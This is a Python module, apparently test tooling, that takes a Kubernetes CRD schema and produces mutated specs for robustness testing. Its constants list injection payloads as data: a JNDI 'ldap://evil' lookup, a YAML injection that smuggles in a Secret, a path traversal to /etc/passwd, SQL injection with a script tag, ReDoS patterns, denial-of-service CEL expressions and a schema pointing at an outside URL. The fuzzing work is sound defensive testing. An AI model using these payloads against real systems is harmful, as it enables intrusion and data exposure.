"""Changes of a spec, drawn from its CRD's schema: each property added, deleted, emptied, taken to its ends. Pure."""

import copy
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from itertools import pairwise
from typing import Any

Spec = dict[str, Any]
Schema = Mapping[str, Any]
Path = tuple[str | int, ...]
LONG = "l" * 262_144
HOSTILE = (
    "{{ .Values.secret }}{% for x in y %}${jndi:ldap://evil}",
    "a\nb: c\r\n---\nkind: Secret\n",
    "\u202e\u0000\ufeff\U0001f4a3",
    "../../../../etc/passwd",
    "'\"`; DROP TABLE runs; --<script>",
    "%s%n%(name)s{0}{name}",
)
HOSTILE_CEL = (
    "true || true || " * 200 + "true",
    "arguments.amount.matches('(a+)+$')",
    "[1,2,3,4,5,6,7,8,9].all(a, [1,2,3,4,5,6,7,8,9].all(b, [1,2,3,4,5,6,7,8,9].all(c, a + b + c > 0)))",
    "1 / 0 == 1",
    "arguments.there.is.no.such.field",
    "'not a bool'",
    "size(",
)
HOSTILE_SCHEMAS: tuple[Any, ...] = (
    {"$ref": "#"},
    {"$ref": "http://127.0.0.1:1/evil.json"},
    {"type": "no such type"},
    {"type": "string", "pattern": "(a+)+$"},
    {"type": "object", "properties": {"a": {"enum": [{"b": None}, [], 1.5, "x" * 10_000]}}},
    {"allOf": [{"allOf": [{"allOf": [{"not": {"not": {}}}]}]}]},
    {"type": "object", "minProperties": -1, "required": "not a list"},
)
NUMBERS = (0, -1, 1, 7, 100, 2**31, 2**53, 2**63 - 1, -(2**63))


@dataclass(frozen=True)
class Mutation:
    """A changed spec, and what was changed about it."""

    name: str
    spec: Spec


def mutations(schema: Schema, spec: Spec) -> Iterator[Mutation]:
    """Yield every change that the schema suggests; many are such that the apiserver refuses them."""
    for path, part in _walk(schema, spec, ()):
        for what, value in _values(path, part):
            changed = copy.deepcopy(spec)
            if _put(changed, path, value):
                yield Mutation(f"{'.'.join(map(str, path))} {what}", changed)
        without = copy.deepcopy(spec)
        if _take(without, path):
            yield Mutation(f"{'.'.join(map(str, path))} deleted", without)


def _walk(schema: Schema, value: Any, path: Path) -> Iterator[tuple[Path, Schema]]:
    """Yield each property that the schema knows; below absent ones, what a sample of them would have."""
    if path:
        yield path, schema
    for name, part in schema.get("properties", {}).items():
        inner = value.get(name) if isinstance(value, Mapping) else None
        yield from _walk(part, inner if inner is not None else sample(part), (*path, name))
    if "items" in schema:
        first = value[0] if isinstance(value, list) and value else sample(schema["items"])
        yield from _walk(schema["items"], first, (*path, 0))


def sample(schema: Schema) -> Any:
    """Return a small value of the schema's type, with all that is required."""
    if "default" in schema or "enum" in schema:
        return copy.deepcopy(schema.get("default", schema.get("enum", [None])[0]))
    match schema.get("type"):
        case "object":
            required, parts = schema.get("required", ()), schema.get("properties", {})
            return {name: sample(parts[name]) for name in required if name in parts}
        case "array":
            return [sample(schema["items"]) for _ in range(int(schema.get("minItems", 1)))]
        case "integer":
            return int(schema.get("minimum", 1))
        case "boolean":
            return True
        case _:
            return "sample"


def _values(path: Path, schema: Schema) -> Iterator[tuple[str, Any]]:
    match schema.get("type"):
        case "string":
            yield from _words(path, schema)
        case "integer":
            ends = (schema.get("minimum"), schema.get("maximum"))
            for number in dict.fromkeys((*(int(end) for end in ends if end is not None), *NUMBERS)):
                yield f"= {number}", number
        case "boolean":
            yield from (("= true", True), ("= false", False))
        case "array":
            one = sample(schema["items"])
            most = min(int(schema.get("maxItems", 64)), 512)
            yield from (("emptied", []), ("of one", [one]), ("twice the same", [one, one]), ("full", [one] * most))
        case _:
            yield from (("emptied", {}), ("a sample", sample(schema)))
            if schema.get("x-kubernetes-preserve-unknown-fields"):
                yield from ((f"hostile schema {number}", each) for number, each in enumerate(HOSTILE_SCHEMAS))
                yield "deep", _deep(64)
                yield "large", {f"k{number}": "v" * 1000 for number in range(200)}
    yield "null", None


def _words(path: Path, schema: Schema) -> Iterator[tuple[str, Any]]:
    yield "emptied", ""
    yield from ((f"= {word}", word) for word in schema.get("enum", ()))
    if "enum" in schema:
        return
    yield "as long as allowed", "l" * int(schema.get("maxLength", 4096))
    yield "256 KB", LONG
    yield from ((f"hostile {number}", word) for number, word in enumerate(HOSTILE))
    if path[-1] in {"when", "rule", "expression", "cel"}:
        yield from ((f"hostile CEL {number}", word) for number, word in enumerate(HOSTILE_CEL))


def _deep(levels: int) -> Any:
    value: Any = {"leaf": 1}
    for _ in range(levels):
        value = {"n": value}
    return value


def _put(spec: Any, path: Path, value: Any) -> bool:
    """Set a value; what is absent on the way there is made where it can be."""
    for step, following in pairwise(path):
        if isinstance(step, int):
            if not isinstance(spec, list) or len(spec) <= step:
                return False
            spec = spec[step]
        else:
            spec = spec.setdefault(step, [{}] if isinstance(following, int) else {})
        if spec is None:
            return False
    try:
        spec[path[-1]] = value
    except (IndexError, TypeError):
        return False
    return True


def _take(spec: Any, path: Path) -> bool:
    for step in path[:-1]:
        try:
            spec = spec[step]
        except (KeyError, IndexError, TypeError):
            return False
    try:
        del spec[path[-1]]
    except (KeyError, IndexError, TypeError):
        return False
    return True
